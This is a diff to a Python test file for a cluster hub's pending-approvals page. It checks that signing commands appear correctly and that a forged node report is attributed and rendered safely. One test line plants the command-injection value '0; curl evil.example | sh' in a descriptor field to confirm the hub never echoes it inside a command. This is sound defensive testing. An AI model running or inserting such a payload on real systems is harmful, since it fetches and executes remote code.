@@ -205,9 +205,20 @@ def test_pending_approvals_each_show_the_command_that_signs_it_on_its_node(hub: 
     assert status == 200 and "<script" not in page
     order = [(m.group(1), m.group(2)) for m in re.finditer(r"(pve\d@lab) · guest \d+ · (\S+) DESTRUCTIVE", seen)]
     assert order == [("pve1@lab", "config.disk_detach"), ("pve1@lab", "z"), ("pve1@lab", "x"), ("pve2@lab", "y")]
-    commands = re.findall(r"Sign it on (\S+): pve-executor op sign --pending (\d) --key KEYFILE --role ROLE", seen)
+    commands = re.findall(r"Or sign it on (\S+): pve-executor op sign --pending (\d) --key KEYFILE --role ROLE", seen)
     assert commands == [("pve1@lab", "1"), ("pve1@lab", "2"), ("pve1@lab", "3"), ("pve2@lab", "1")]
+    short = hashlib.sha256(b"400y").hexdigest()[:12]
+    assert (f"send it through the hub: pve-hub pending --cluster lab --descriptor {short} --json > pending-{short}.json"
+            f" && pve-executor op sign --key KEYFILE --role ROLE --out op-{short}.json pending-{short}.json && "
+            f"pve-hub submit op-{short}.json --cluster lab --wait") in seen
     assert "4 pending approvals" in text_of(get(hub, url("clusters", CLUSTER))[2])
+    forged = waiting("pve2@lab", 400, "y")
+    forged.descriptor_sha256, forged.node = "0; curl evil.example | sh", "pve1@lab"  # a node's lies
+    report(hub, "pve2@lab", [pb.GuestState(vmid=400, name="c", state=pb.SYNC_STATE_PENDING_APPROVAL, pending=[forged])],
+           seq=2)
+    seen = text_of(get(hub, url("clusters", CLUSTER, "pending"))[2])
+    assert "curl" not in seen.split("malformed descriptor sha256")[1]  # never inside a command
+    assert "pve2@lab · guest 400 · y DESTRUCTIVE" in seen  # the node the hub heard it from, whatever it claims
 
 
 def test_a_stale_node_stands_out(hub: Hub) -> None:
